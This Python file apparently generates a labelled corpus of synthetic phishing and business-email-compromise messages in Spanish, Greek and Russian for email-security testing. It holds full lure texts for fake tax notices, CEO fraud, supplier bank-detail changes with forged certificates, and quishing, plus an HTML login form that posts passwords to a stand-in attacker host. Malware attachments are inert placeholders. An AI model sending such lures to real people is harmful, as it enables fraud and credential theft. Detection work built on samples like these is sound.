"""Attack messages, Spanish (5), Greek (5) and Russian (4)."""
import base64

import ids
import pdf
import qr
import zips
from core import reg, finish
from infra import (t_postfix, t_proton, t_brevo, t_gmail, t_mailgun, t_exim, t_ses, t_mailru, mua_phpmailer,
                   mua_plain, mua_gmail, mua_outlook16, mua_roundcube, mua_thebat)
from mime import Text, Multi, Blob
from people import (S, EG_ES_CIF, EG_GR_AFM, EG_RU_INN, EG_RU_KPP, SUMED_CIF, MTS_INN, MTS_KPP,
                    PAPADOPOULOS_AFM)
from tpl import alt, mixed, mso_html, card_html, button, p, kv_table, esc, fill, gmail_html, simple_html
from util import addr, secs, tok, digits

A = "attack"


# ----------------------------------------------------------------- Spanish
@reg(A, "es", "aeat-notificacion-descarga-zip")
def a_aeat(k):
    k.when("2026-10-22 10:31:58")
    acc = S("es_acc")
    rt = k.env("notificaciones@agenciatributaria-dehu.es", acc["addr"])
    t_postfix(rt, "mail.agenciatributaria-dehu.es", "45.88.186.31", rdns="unknown", back=4)
    mua_phpmailer(rt, "agenciatributaria-dehu.es", version="6.9.1")
    ref = "2026GRC46021873X"
    url = "https://sede-agenciatributaria-dehu.com/notificaciones/descarga.php?ref=%s&nif=%s" % (ref, EG_ES_CIF)
    inner = p("Estimado/a contribuyente:",
              "Le comunicamos que tiene a su disposición una notificación electrónica en la Dirección Electrónica "
              "Habilitada única (DEHú) relativa al siguiente titular:") + \
        kv_table([("Titular", "EXAMPLE GROUP IBERICA SL"), ("NIF", EG_ES_CIF),
                  ("Procedimiento", "Comprobación limitada - Impuesto sobre Sociedades 2025"), ("Referencia", ref)]) + \
        p("Dispone de un plazo de diez días naturales desde su puesta a disposición para acceder a su contenido. "
          "Transcurrido dicho plazo sin que se haya accedido, la notificación se entenderá rechazada y se dará por "
          "efectuado el trámite, siguiéndose el procedimiento (art. 43 de la Ley 39/2015).") + \
        button(url, "Descargar notificación (PDF comprimido, 184 KB)", "#8b1a1a") + \
        p("", "Agencia Estatal de Administración Tributaria")
    html = fill(card_html("Notificación pendiente", inner, brand="Agencia Tributaria &middot; Sede Electrónica",
                          brand_color="#6b1d1d", lang="es",
                          footer="Este mensaje se ha generado automáticamente. Por favor, no responda a este correo."),
                "iso-8859-1")
    body = Text(html, "html", "iso-8859-1", "quoted-printable")
    return finish(k, rt, frm=addr("Agencia Tributaria", "notificaciones@agenciatributaria-dehu.es"), to=acc["addr"],
                  subject="Notificación pendiente de comparecencia - Ref. %s" % ref,
                  subj_cs=("iso-8859-1", "Q", None), body=body,
                  what="Tax-office (AEAT/DEHú) notification lure with a 'download the notification' link to a ZIP",
                  why="Classic Spanish malspam: look-alike domains, bare VPS with no rDNS and PHPMailer; DEHú "
                      "notices are read on the official portal, not downloaded as ZIP from "
                      "sede-agenciatributaria-dehu.com; 10-day legal threat – malware delivery.")


@reg(A, "es", "ceo-whatsapp-proton")
def a_whatsapp(k):
    k.when("2026-10-28 09:12:40")
    mgr = S("es_mgr")
    rt = k.env("m.brandt.ceo@proton.me", mgr["addr"])
    t_proton(rt)
    mua_proton = __import__("infra").mua_proton
    mua_proton(rt)
    text = """Hola Elena:

¿Estás en la oficina esta mañana? Necesito tu ayuda con un asunto confidencial relacionado con una operación que estamos cerrando en España.

¿Me puedes enviar tu número de móvil? Prefiero que lo hablemos por WhatsApp. De momento no lo comentes con nadie del equipo, te lo explicaré todo en cuanto pueda.

Gracias,
Matthias Brandt
CEO – Example Group

Enviado desde mi iPhone
"""
    html = ('<div style="font-family: Arial, sans-serif; font-size: 14px;">%s</div>' %
            "".join("<div>%s</div><div><br></div>" % x for x in
                    [esc(b).replace("\n", "<br>") for b in text.strip().split("\n\n")]))
    body = alt(rt, text, html, "utf-8", "quoted-printable")
    return finish(k, rt, frm=addr("Matthias Brandt", "m.brandt.ceo@proton.me"), to=mgr["addr"],
                  subject="Asunto confidencial", body=body,
                  what="CEO fraud opener to the Valencia office manager: 'confidential deal', asks for her mobile to "
                       "continue on WhatsApp",
                  why="CEO name on a Proton Mail address; moves the conversation off corporate channels (WhatsApp) "
                      "where BEC payment requests follow; secrecy request.")


@reg(A, "es", "nomina-qr-firma-quishing")
def a_nomina(k):
    k.when("2026-11-23 07:55:03")
    acc = S("es_acc")
    rt = k.env("rrhh@examplegroup-empleados.com", acc["addr"])
    t_brevo(rt)
    e = base64.urlsafe_b64encode(acc["addr"].encode()).decode().rstrip("=")
    qurl = "https://examplegroup-empleados.com/nomina/firma?e=%s&d=112026" % e
    png = qr.qr_png(qurl, "M", scale=6)
    k.files["qr"] = (png, qurl)
    text = """Estimado/a Sergio:

Su recibo de salarios de noviembre de 2026 y la comunicación de regularización de retenciones de IRPF para 2027 (modelo 145) están disponibles para su firma electrónica.

Por motivos de seguridad y de protección de datos, el documento solo puede abrirse desde un dispositivo móvil verificado. Escanee el código QR adjunto con la cámara de su teléfono e inicie sesión con su cuenta corporativa.

Si no firma antes del 27/11/2026, el abono de la nómina podría trasladarse al siguiente ciclo de pago.

Atentamente,

Departamento de Recursos Humanos
Example Group Ibérica S.L.
"""
    html = fill(card_html("Firma de nómina", p(*[esc(x).replace("\n", "<br>") for x in text.strip().split("\n\n")]),
                          brand="Example Group &middot; Portal del Empleado", brand_color="#2b4c7e", lang="es",
                          footer="Mensaje automático del Portal del Empleado. No responda a este correo."), "utf-8")
    body = mixed(rt, alt(rt, text, html, "utf-8", "quoted-printable"),
                 Blob(png, "image/png", "Nomina_Noviembre_2026_firma.png"))
    return finish(k, rt, frm=addr("RR. HH. Example Group", "rrhh@examplegroup-empleados.com"), to=acc["addr"],
                  subject="Acción requerida: firma de su nómina de noviembre y regularización de IRPF 2027",
                  subj_cs=("utf-8", "Q", None), body=body,
                  extra=[("List-Unsubscribe", "<https://examplegroup-empleados.com/baja>")],
                  what="Payroll quishing: 'HR' asks to sign the November payslip and IRPF update by scanning an "
                       "attached QR code (PNG) that encodes a login URL with the victim's address",
                  why="Look-alike domain examplegroup-empleados.com sent through Brevo; QR code in a PNG attachment "
                      "moves the credential entry to an unmanaged phone; salary-delay threat. The genuine payslip "
                      "notice (business 31) points to the usual intranet portal without codes or links.")


@reg(A, "es", "callback-renovacion-antivirus-pdf")
def a_toad(k):
    k.when("2026-11-30 16:40:22")
    mgr = S("es_mgr")
    rt = k.env("facturacion.renovaciones24@gmail.com", mgr["addr"])
    t_gmail(rt, host="mail-wr1-f%d.google.com", ipfmt="209.85.221.%d")
    mua_gmail(rt)
    phone = "+34 900 83 47 12"
    text = """Estimado cliente:

Gracias por renovar su suscripción. Se ha procesado el cargo de 389,99 € en su método de pago registrado. Adjuntamos la factura correspondiente.

Si no reconoce esta operación o desea cancelarla, llame en las próximas 24 horas a nuestro departamento de facturación: %s (lunes a domingo, de 8:00 a 22:00).

Atentamente,
Departamento de Facturación
""" % phone
    inv = pdf.make_pdf([
        ("FACTURA", 20, True), "N.º de pedido: MC-48271935", "Fecha: 30/11/2026", "", "Cliente: Elena Martínez",
        "Correo: " + mgr["addr"], "", "---",
        ("Producto                                              Cantidad      Importe", 10, True),
        "McAfee Total Protection - 10 dispositivos - 3 años        1         327,98 €",
        "IVA (21 %)                                                               62,01 €",
        ("Total                                                                   389,99 €", 11, True), "---", "",
        "Método de pago: cargo automático (renovación)", "",
        ("¿No ha autorizado esta compra? Llame ahora: " + phone, 12, True),
        "El reembolso solo puede tramitarse por teléfono dentro de las 24 horas siguientes a la emisión.",
    ], k.t - secs(600), title="Factura MC-48271935", creator="Canva", producer="Canva")
    body = mixed(rt, alt(rt, text, gmail_html(text), "UTF-8", "quoted-printable"),
                 Blob(inv, "application/pdf", "Factura_MC-48271935.pdf"))
    return finish(k, rt, frm=addr("Centro de Facturación", "facturacion.renovaciones24@gmail.com",
                                  "UTF-8", "Q"), to=mgr["addr"],
                  subject="Confirmación de pedido n.º MC-48271935 – renovación automática",
                  subj_cs=("UTF-8", "B", None), body=body,
                  what="Callback phishing (TOAD): fake antivirus renewal of EUR 389.99 with PDF invoice; 'call to "
                       "cancel' phone number",
                  why="Gmail free-mail sender, no link (payload is the phone number, also in the PDF), product the "
                      "company does not buy, 24-hour refund pressure – the call leads to remote-access/refund scam.")


@reg(A, "es", "sumed-lookalike-titularidad-cuenta")
def a_sumed(k):
    k.when("2026-12-03 12:27:18")
    acc = S("es_acc")
    rt = k.env("administracion@sumedlevante-es.com", acc["addr"])
    t_postfix(rt, "mail.sumedlevante-es.com", "147.79.116.52", rdns="srv702154.hstgr.cloud",
              client_helo="DESKTOP-5HN2QKA", client_ip="88.26.242.19", client_rdns="19.red-88-26-242.staticip.rima-tde.net",
              back=11)
    mua_outlook16(rt, "sumedlevante-es.com", lang="es")
    iban = ids.iban_es("1465", "0100", "2049183726")
    text = """Estimado Sergio:

Le informamos de que, por motivos de auditoría interna, hemos cambiado de entidad bancaria. A partir de hoy le rogamos que todos los pagos pendientes, incluidas las facturas FV26-1142 y FV26-1187, se realicen a la nueva cuenta indicada en el certificado de titularidad adjunto.

La cuenta anterior en CaixaBank quedará cancelada a final de mes y los importes que se ingresen en ella serán devueltos.

Le agradeceríamos que nos confirme por este medio la actualización de sus datos y la fecha prevista de pago.

Un cordial saludo,

Javier Ortega
Administración
Suministros Médicos Levante, S.L.
C/ de la Ciència 21, Pol. Ind. Fuente del Jarro – 46988 Paterna (Valencia)
Tel. 961 34 27 80
"""
    cert = pdf.make_pdf([
        ("ING", 18, True), ("CERTIFICADO DE TITULARIDAD DE CUENTA", 13, True), "",
        "ING Bank NV, Sucursal en España, certifica que la cuenta abajo indicada figura a nombre de:", "",
        ("Titular: SUMINISTROS MEDICOS LEVANTE SL", 11, True), ("CIF: " + SUMED_CIF, 11, True),
        ("IBAN: " + ids.pretty(iban), 11, True), "BIC: INGDESMMXXX", "",
        "Y para que así conste a los efectos oportunos, se expide el presente certificado.", "",
        "Madrid, 1 de diciembre de 2026", "", "Departamento de Operaciones", "ING - Sucursal en España",
    ], k.t - secs(3600 * 30), title="Certificado de titularidad", creator="Microsoft Word",
        producer="iLovePDF")
    body = mixed(rt, alt(rt, text, mso_html(text, "ES"), "windows-1252", "quoted-printable"),
                 Blob(cert, "application/pdf", "Certificado_titularidad_cuenta.pdf"))
    return finish(k, rt, frm=addr("Suministros Médicos Levante - Administración", "administracion@sumedlevante-es.com",
                                  "windows-1252", "Q"), to=addr("Sergio Fernández", acc["addr"], "windows-1252", "Q"),
                  subject="Actualización de datos bancarios - Suministros Médicos Levante S.L.",
                  subj_cs=("windows-1252", "Q", None), body=body,
                  what="Supplier bank-detail change with a forged 'certificado de titularidad' PDF; asks to pay two "
                       "open invoices to a new ING account",
                  why="Look-alike domain sumedlevante-es.com on a Hostinger VPS (genuine sumedlevante.es uses Google "
                      "Workspace, cf. business 27); confirmation requested 'por este medio' only; certificate "
                      "produced with iLovePDF; vendor-payment BEC.")


# ----------------------------------------------------------------- Greek
@reg(A, "el", "aade-mydata-taxisnet")
def a_aade(k):
    k.when("2026-11-12 10:08:44", "CET")
    acc = S("gr_acc")
    rt = k.env("noreply@mydata-aade-gov.com", acc["addr"])
    t_mailgun(rt, "mg.mydata-aade-gov.com")
    url = "https://mydata-aade-gov.com/taxisnet/login?afm=%s&s=%s" % (EG_GR_AFM, tok(k.rng, 10))
    inner = p("Αξιότιμε/η φορολογούμενε,",
              "Από τη διασταύρωση των δεδομένων που έχουν διαβιβαστεί στην ηλεκτρονική πλατφόρμα myDATA για την "
              "επιχείρηση <b>EXAMPLE GROUP HELLAS Μ.Α.Ε.</b> (ΑΦΜ %s) διαπιστώθηκαν αποκλίσεις μεταξύ των στοιχείων "
              "εκδότη και λήπτη σε <b>7 παραστατικά</b> του Γ΄ τριμήνου 2026." % EG_GR_AFM,
              "Παρακαλούμε να συνδεθείτε με τους κωδικούς TAXISnet και να επιβεβαιώσετε ή να διορθώσετε τους "
              "χαρακτηρισμούς έως τις <b>20/11/2026</b>. Μετά την παρέλευση της προθεσμίας θα επιβληθούν τα πρόστιμα "
              "του άρθρου 54Ε του Κώδικα Φορολογικής Διαδικασίας.") + \
        button(url, "Σύνδεση με κωδικούς TAXISnet", "#0d3b66") + \
        p("", "Ανεξάρτητη Αρχή Δημοσίων Εσόδων<br>Υπηρεσία myDATA")
    html = card_html("myDATA - Ειδοποίηση", inner, brand="ΑΑΔΕ &middot; myDATA", brand_color="#0d3b66", lang="el",
                     footer="Το μήνυμα αυτό στάλθηκε αυτόματα. Παρακαλούμε μην απαντάτε.")
    plain = ("Αξιότιμε/η φορολογούμενε,\n\nδιαπιστώθηκαν αποκλίσεις σε 7 παραστατικά myDATA της επιχείρησης "
             "EXAMPLE GROUP HELLAS Μ.Α.Ε. (ΑΦΜ %s).\nΣύνδεση με κωδικούς TAXISnet έως 20/11/2026:\n%s\n\nΑΑΔΕ - myDATA\n"
             % (EG_GR_AFM, url))
    body = alt(rt, plain, html, "utf-8", "quoted-printable")
    return finish(k, rt, frm=addr("ΑΑΔΕ - myDATA", "noreply@mydata-aade-gov.com", "utf-8", "B"), to=acc["addr"],
                  subject="Ειδοποίηση αποκλίσεων myDATA – Προθεσμία διόρθωσης 20/11/2026", body=body,
                  what="Greek tax authority (AADE) myDATA e-books 'discrepancy' notice with a TAXISnet login button",
                  why="Look-alike domain mydata-aade-gov.com via Mailgun (AADE uses aade.gr); fines threat with a "
                      "deadline; harvests TAXISnet credentials of the company accountant.")


@reg(A, "el", "acs-telonismos-zip-lnk")
def a_acs(k):
    k.when("2026-11-16 13:37:12", "CET")
    mgr = S("gr_mgr")
    rt = k.env("info@taverna-kyma-kavala.gr", mgr["addr"])
    t_exim(rt, "host45.grserver.gr", "185.138.42.45", "91.92.249.163", "[127.0.0.1]", zone="EET")
    mua_roundcube(rt, "taverna-kyma-kavala.gr", "info@taverna-kyma-kavala.gr", version="1.6.6")
    text = """Αγαπητέ πελάτη,

Η αποστολή σας με αριθμό 7712449031 (αποστολέας: Ντίσελντορφ, Γερμανία) έχει παραληφθεί από το Τελωνείο Θεσσαλονίκης. Για την ολοκλήρωση του εκτελωνισμού απαιτείται επιβεβαίωση του συνημμένου τιμολογίου και καταβολή δασμών και ΦΠΑ ύψους 23,40 €.

Παρακαλούμε ανοίξτε το συνημμένο αρχείο, ελέγξτε τα στοιχεία και ακολουθήστε τις οδηγίες εντός 3 εργάσιμων ημερών. Σε διαφορετική περίπτωση η αποστολή θα επιστραφεί στον αποστολέα.

Με εκτίμηση,
Τμήμα Εκτελωνισμού
ACS Courier
"""
    z = zips.make_zip([("ACS_Timologio_7712449031.pdf.lnk", zips.PLACEHOLDER)], k.t - secs(900), zone="EET",
                      rng=k.rng)
    body = mixed(rt, Text(text, "plain", "iso-8859-7", "base64", label="ISO-8859-7", quote_cs=False),
                 Blob(z, "application/zip", "ACS_7712449031_Telonismos.zip"))
    return finish(k, rt, frm=addr("ACS Courier", "info@taverna-kyma-kavala.gr"), to=mgr["addr"],
                  subject="ACS: Εκκρεμεί εκτελωνισμός αποστολής 7712449031", subj_cs=("ISO-8859-7", "B", None),
                  body=body,
                  what="Courier (ACS) customs-clearance lure with a ZIP holding a '.pdf.lnk' shortcut",
                  why="A shipment from Germany to Greece needs no customs clearance (intra-EU); sent from a "
                      "compromised taverna's mailbox; ZIP with a double-extension LNK (inert placeholder) is a "
                      "typical malware loader.")


@reg(A, "el", "papadopoulos-lookalike-iban")
def a_papadopoulos(k):
    k.when("2026-11-25 17:06:31", "CET")
    acc = S("gr_acc")
    rt = k.env("n.papadopoulos@papadopoulos-medlcal.gr", acc["addr"])
    t_postfix(rt, "mail.papadopoulos-medlcal.gr", "31.59.129.18", rdns="unknown", client_helo="DESKTOP-G7M1XQ4",
              client_ip="176.58.173.96", back=10, zone="EET")
    mua_outlook16(rt, "papadopoulos-medlcal.gr", lang="el")
    iban = ids.iban_gr("026", "0215", "0000940201847265")
    text = """Καλησπέρα σας κ. Κωνσταντίνου,

σας ενημερώνουμε ότι, λόγω μεταφοράς της εταιρικής μας συνεργασίας από την Τράπεζα Πειραιώς στη Eurobank, ο λογαριασμός μας στην Πειραιώς θα κλείσει στο τέλος του μήνα.

Παρακαλούμε η εξόφληση των τιμολογίων ΤΠΥ 2026/1488 και ΤΠΥ 2026/1523 (συνολικό ποσό 9.876,40 €) να γίνει στον νέο μας λογαριασμό:

Δικαιούχος: ΙΑΤΡΙΚΑ ΕΙΔΗ ΠΑΠΑΔΟΠΟΥΛΟΣ Α.Ε.
Τράπεζα: Eurobank
IBAN: %s

Επειδή βρίσκομαι εκτός γραφείου λόγω έκθεσης στην Αθήνα, σας παρακαλώ να μου επιβεβαιώσετε την εξόφληση μέσω email.

Ευχαριστώ πολύ,

Νίκος Παπαδόπουλος
Διευθύνων Σύμβουλος
Ιατρικά Είδη Παπαδόπουλος Α.Ε.
""" % ids.pretty(iban)
    body = alt(rt, text, mso_html(text, "EL"), "windows-1253", "quoted-printable")
    return finish(k, rt, frm=addr("Νίκος Παπαδόπουλος", "n.papadopoulos@papadopoulos-medlcal.gr", "windows-1253", "B"),
                  to=addr("Dimitris Konstantinou", acc["addr"]),
                  subject="Αλλαγή τραπεζικού λογαριασμού - εκκρεμή τιμολόγια", subj_cs=("windows-1253", "B", None),
                  body=body,
                  what="Supplier's MD announces a move from Piraeus Bank to Eurobank and asks to settle EUR 9,876.40 "
                       "to the new IBAN, confirmation by e-mail",
                  why="Look-alike domain papadopoulos-medlcal.gr ('l' for 'i') on a VPS without rDNS; bank change "
                      "by e-mail while 'out of office'; genuine supplier invoices (business 32/36) carry the Piraeus "
                      "IBAN and come from papadopoulos-medical.gr.")


@reg(A, "el", "sharepoint-share-compromised-hotel")
def a_sharepoint(k):
    k.when("2026-12-01 11:52:07", "CET")
    mgr = S("gr_mgr")
    rt = k.env("reservations@hotel-aigaio-chalkidiki.gr", mgr["addr"])
    t_exim(rt, "cp12.grhost.eu", "185.4.133.12", "194.26.29.113", "[10.0.2.15]", zone="EET")
    mua_roundcube(rt, "hotel-aigaio-chalkidiki.gr", "reservations@hotel-aigaio-chalkidiki.gr", version="1.6.9")
    fname = "Προσφορά_Συνεδρίου_Example_2027.pdf"
    url = "https://aigaio-chalkidiki.sharepoint-docs.net/:b:/g/personal/reservations/EaX7%s?e=%s" % (
        tok(k.rng, 18, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"), tok(k.rng, 6))
    inner = ("<div style='font-size:20px;margin-bottom:14px'>Το Ξενοδοχείο Αιγαίο σας κοινοποίησε ένα αρχείο</div>"
             "<div style='border-left:3px solid #0078d4;padding:8px 14px;background:#f3f2f1;margin-bottom:18px'>"
             "Καλησπέρα κα Γεωργίου, σας στέλνουμε την προσφορά για το ετήσιο συνέδριο της εταιρείας σας, όπως "
             "συζητήσαμε τηλεφωνικά.</div>"
             "<div style='border:1px solid #e1dfdd;padding:12px;margin-bottom:18px'>&#128196; <b>%s</b></div>" % esc(fname) +
             button(url, "Άνοιγμα", "#0078d4") +
             p("", "Αυτός ο σύνδεσμος λειτουργεί μόνο για τους άμεσους παραλήπτες του μηνύματος."))
    html = fill(card_html("SharePoint", inner, brand="Microsoft SharePoint", brand_color="#0078d4", lang="el",
                          footer="Δήλωση προστασίας προσωπικών δεδομένων της Microsoft<br>Microsoft Corporation, One "
                                 "Microsoft Way, Redmond, WA 98052"), "utf-8")
    plain = ("Το Ξενοδοχείο Αιγαίο σας κοινοποίησε ένα αρχείο: %s\n\nΆνοιγμα: %s\n" % (fname, url))
    body = alt(rt, plain, html, "UTF-8", "base64", quote_cs=False)
    return finish(k, rt, frm=addr("Ξενοδοχείο Αιγαίο Χαλκιδική", "reservations@hotel-aigaio-chalkidiki.gr", "UTF-8", "B"),
                  to=mgr["addr"], subject="Το Ξενοδοχείο Αιγαίο σας κοινοποίησε το «%s»" % fname,
                  subj_cs=("UTF-8", "B", None), body=body,
                  what="SharePoint 'file shared with you' imitation ('conference offer 2027') from a hotel's real "
                       "mailbox, link to sharepoint-docs.net",
                  why="Real SharePoint sharing mail comes from no-reply@sharepointonline.com via Microsoft (cf. "
                      "business 35), not from the hotel's cPanel/Roundcube; the link host is not sharepoint.com; "
                      "compromised-account credential phishing.")


@reg(A, "el", "voicemail-html-attachment")
def a_voicemail(k):
    k.when("2026-12-07 08:33:50", "CET")
    acc = S("gr_acc")
    rt = k.env("voicemail@teams-voice-notify.com", acc["addr"])
    t_ses(rt)
    caller = "+30 2310 471209"
    html = fill(card_html("Φωνητικό μήνυμα", p("Έχετε ένα νέο φωνητικό μήνυμα.") +
                          kv_table([("Από", caller), ("Διάρκεια", "00:47"), ("Ελήφθη", "Δευτέρα, 7 Δεκεμβρίου 2026 09:31")]) +
                          p("Το ηχητικό μήνυμα επισυνάπτεται. Ανοίξτε το συνημμένο για να το ακούσετε."),
                          brand="Microsoft Teams &middot; Φωνητικό ταχυδρομείο", brand_color="#464775", lang="el",
                          footer="Microsoft Teams"), "utf-8")
    page = """<!DOCTYPE html>
<html lang="el"><head><meta charset="utf-8"><title>Φωνητικό μήνυμα - %s</title>
<style>body{font-family:Segoe UI,Arial,sans-serif;background:#f5f5f5;margin:0}
.c{width:420px;margin:70px auto;background:#fff;padding:32px;box-shadow:0 2px 10px rgba(0,0,0,.2)}
.bar{height:6px;background:#ddd;border-radius:3px;margin:14px 0}.bar i{display:block;width:0;height:6px;background:#6264a7}
input{width:100%%;padding:8px;margin:8px 0;border:1px solid #999;box-sizing:border-box}
button{background:#6264a7;color:#fff;border:0;padding:9px 24px}</style></head>
<body><div class="c"><b>&#9654; Φωνητικό μήνυμα 00:47</b><div class="bar"><i></i></div>
<p>Για λόγους ασφαλείας, συνδεθείτε με τον λογαριασμό Microsoft 365 της εταιρείας σας για να ακούσετε το μήνυμα.</p>
<form method="post" action="https://teams-voice-notify.com/vm/auth">
<input type="email" name="u" value="%s"><input type="password" name="p" placeholder="Κωδικός πρόσβασης">
<button type="submit">Ακρόαση</button></form></div></body></html>
""" % (caller, acc["addr"])
    att = Text(page, "html", "utf-8", "base64", disposition='attachment; filename="VM_302310471209_0047.htm"',
               params='; name="VM_302310471209_0047.htm"')
    body = mixed(rt, Text(html, "html", "UTF-8", "quoted-printable"), att)
    return finish(k, rt, frm=addr("Microsoft Teams", "voicemail@teams-voice-notify.com"), to=acc["addr"],
                  subject="Νέο φωνητικό μήνυμα από %s (00:47)" % caller, subj_cs=("UTF-8", "B", None), body=body,
                  what="Fake Teams voicemail notification with an .htm 'audio' attachment that is a Microsoft 365 "
                       "login form",
                  why="Teams voicemail is not delivered as an HTML file; sender domain teams-voice-notify.com via "
                      "Amazon SES; the attachment posts the password to the attacker's host (inert, no script).")


# ----------------------------------------------------------------- Russian
@reg(A, "ru", "fns-trebovanie-zip-parol")
def a_fns(k):
    k.when("2026-10-26 11:19:45", "CET")
    acc = S("ru_acc")
    rt = k.env("buh@stroymontazh-vologda.ru", acc["addr"])
    t_exim(rt, "vh312.timeweb.ru", "92.53.96.112", "5.8.18.7", "[192.168.1.64]", zone="MSK", version="4.97")
    mua_thebat(rt, "stroymontazh-vologda.ru", version="v9.4.5")
    pw = "2718"
    k.files["zip_password"] = pw.encode()
    z = zips.make_zip([("Perechen_raskhozhdeniy_27-14_18842.pdf.scr", zips.PLACEHOLDER)], k.t - secs(1800),
                      zone="MSK", password=pw.encode(), rng=k.rng)
    text = """Уважаемый налогоплательщик!

Межрайонная ИФНС России N 27 по Санкт-Петербургу в ходе камеральной налоговой проверки налоговой декларации по налогу на добавленную стоимость за 3 квартал 2026 года ООО "Экзампл Груп Рус" (ИНН %s, КПП %s) выявила расхождения между сведениями книги покупок и данными ваших контрагентов.

В соответствии с п. 3 ст. 88 НК РФ вам необходимо в течение пяти рабочих дней со дня получения настоящего требования представить пояснения или внести соответствующие исправления в налоговую декларацию.

Перечень выявленных расхождений и форма пояснений направляются во вложении. В целях соблюдения налоговой тайны архив защищен паролем: %s

Непредставление пояснений в установленный срок влечет ответственность по ст. 129.1 НК РФ.

Начальник отдела камеральных проверок N 2
С. В. Кудрявцева
""" % (EG_RU_INN, EG_RU_KPP, pw)
    body = mixed(rt, Text(text, "plain", "koi8-r", "quoted-printable", label="koi8-r", quote_cs=False),
                 Blob(z, "application/x-zip-compressed", "Требование_27-14_18842.zip", fname_style="2231"))
    return finish(k, rt, frm=addr("Межрайонная ИФНС России N 27 по Санкт-Петербургу", "buh@stroymontazh-vologda.ru",
                                  "koi8-r", "B"),
                  to=acc["addr"], subject="Требование о представлении пояснений N 27-14/18842 (ст. 88 НК РФ)",
                  subj_cs=("koi8-r", "B", None), body=body,
                  what="Tax-office (FNS) 'demand for explanations' under art. 88 of the Tax Code with a "
                       "password-protected ZIP, password in the body",
                  why="FNS demands are delivered via the TKS/EDO operator channel, never as e-mail from a Vologda "
                      "construction firm's (compromised) mailbox; encrypted ZIP hides a '.pdf.scr' (inert "
                      "placeholder) from scanning; legal-liability pressure.")


@reg(A, "ru", "medtechsnab-lookalike-rekvizity")
def a_mts(k):
    k.when("2026-11-16 10:02:33", "CET")
    acc = S("ru_acc")
    rt = k.env("o.smirnova@medtehsnab.ru", acc["addr"])
    t_postfix(rt, "mail.medtehsnab.ru", "89.110.73.205", rdns="unknown", client_helo="buh-pc",
              client_ip="213.87.150.63", back=9, zone="MSK")
    mua_thebat(rt, "medtehsnab.ru", version="v11.2.1")
    bik = "044525700"
    ks = ids.ru_account(bik, "30101810X00000000700", correspondent=True)
    rs = ids.ru_account(bik, "40702810X00000817264")
    k.files["ru_accounts"] = [(ks, bik, True), (rs, bik, False)]
    text = """Добрый день, Игорь!

Информируем Вас, что в связи со сменой обслуживающего банка с 16.11.2026 изменились банковские реквизиты ООО «МедТехСнаб». Просим оплату по счёту № 2417 от 02.11.2026 (248 615,00 руб.) и все последующие платежи производить по новым реквизитам:

Получатель: ООО «МедТехСнаб»
ИНН %s / КПП %s
Банк: АО «Райффайзенбанк», г. Москва
БИК %s
Корр. счёт %s
Расчётный счёт %s

Официальное письмо за подписью генерального директора прилагаем. Расчётный счёт в ПАО Сбербанк закрывается, поступившие на него платежи будут возвращены.

Просим подтвердить получение письма ответом.

С уважением,
Ольга Смирнова
главный бухгалтер ООО «МедТехСнаб»
""" % (MTS_INN, MTS_KPP, bik, ks, rs)
    letter = pdf.make_pdf([
        ("OOO MedTekhSnab", 15, True), "Saint Petersburg, Kantemirovskaya ul. 39", "", ("Ref. 311/26 of 13.11.2026", 9, False),
        "", ("Notice of change of bank details / Izveshchenie ob izmenenii rekvizitov", 12, True), "",
        "Please note that from 16.11.2026 payments to OOO MedTekhSnab are accepted only to:", "",
        "INN %s  KPP %s" % (MTS_INN, MTS_KPP), "Bank: AO Raiffeisenbank, Moscow", "BIK " + bik,
        "Corr. account " + ks, ("Settlement account " + rs, 10, True), "",
        "General Director  ____________  A. V. Belov",
    ], k.t - secs(3600 * 70), zone="MSK", title="Izveshchenie", creator="Microsoft Word", producer="Microsoft Word")
    body = mixed(rt, Text(text, "plain", "windows-1251", "quoted-printable", label="windows-1251", quote_cs=False),
                 Blob(letter, "application/pdf", "Письмо_о_смене_реквизитов.pdf", fname_style="2047",
                      fname_charset="windows-1251"))
    return finish(k, rt, frm=addr("Ольга Смирнова", "o.smirnova@medtehsnab.ru", "windows-1251", "B"),
                  to=acc["addr"], subject="Изменение банковских реквизитов ООО «МедТехСнаб»",
                  subj_cs=("windows-1251", "B", None), body=body,
                  what="Supplier (МедТехСнаб) bank-detail change: new Raiffeisen account for invoice 2417 "
                       "(RUB 248,615) and all future payments",
                  why="Look-alike domain medtehsnab.ru (genuine medtechsnab.ru on Yandex 360) on a VPS without rDNS; "
                      "valid-looking BIK/accounts make it convincing, but the change arrives only by e-mail and asks "
                      "for a reply instead of a call; cf. genuine invoice with the Sberbank account (business 37).")


@reg(A, "ru", "diadok-dokument-na-podpis")
def a_diadok(k):
    k.when("2026-11-19 12:44:10", "CET")
    mgr = S("ru_mgr")
    rt = k.env("noreply@diadoc-kontur.ru", mgr["addr"])
    t_postfix(rt, "mx.diadoc-kontur.ru", "94.156.66.41", rdns="unknown", back=4, zone="MSK")
    mua_phpmailer(rt, "diadoc-kontur.ru", version="6.9.1")
    url = "https://diadoc-kontur.ru/auth/login?returnUrl=%%2FDocument%%2F%s" % tok(k.rng, 24)
    inner = p("Здравствуйте!",
              "В ящик организации <b>ООО «Экзампл Груп Рус»</b> поступил документ, требующий подписи:") + \
        kv_table([("Тип", "Универсальный передаточный документ (УПД)"), ("Номер", "№ 1187 от 19.11.2026"),
                  ("Отправитель", "ООО «МедТехСнаб»"), ("Сумма", "248 615,00 ₽"), ("Срок подписания", "3 рабочих дня")]) + \
        button(url, "Перейти к документу", "#1a7ac7") + \
        p("", "Если документ не будет подписан в срок, отправитель получит уведомление об отказе.")
    html = card_html("Диадок", inner, brand="Контур.Диадок", brand_color="#1a7ac7", lang="ru",
                     footer="АО «ПФ «СКБ Контур». Это автоматическое уведомление, не отвечайте на него.")
    plain = ("Здравствуйте!\n\nВ ящик организации ООО «Экзампл Груп Рус» поступил документ на подпись: УПД № 1187 от "
             "19.11.2026 от ООО «МедТехСнаб», сумма 248 615,00 руб.\n\nПерейти к документу: %s\n" % url)
    body = alt(rt, plain, html, "utf-8", "quoted-printable")
    return finish(k, rt, frm=addr("Контур.Диадок", "noreply@diadoc-kontur.ru", "utf-8", "B"), to=mgr["addr"],
                  subject="Вам поступил документ на подпись: УПД № 1187 от 19.11.2026", body=body,
                  what="Fake EDO (Kontur.Diadoc) notification: a UPD from the real supplier awaits signature, "
                       "login button",
                  why="Look-alike domain diadoc-kontur.ru on a bare VPS with PHPMailer (genuine service is "
                      "diadoc.kontur.ru); uses a real supplier name and plausible amount; credential phishing for "
                      "the e-document operator account.")


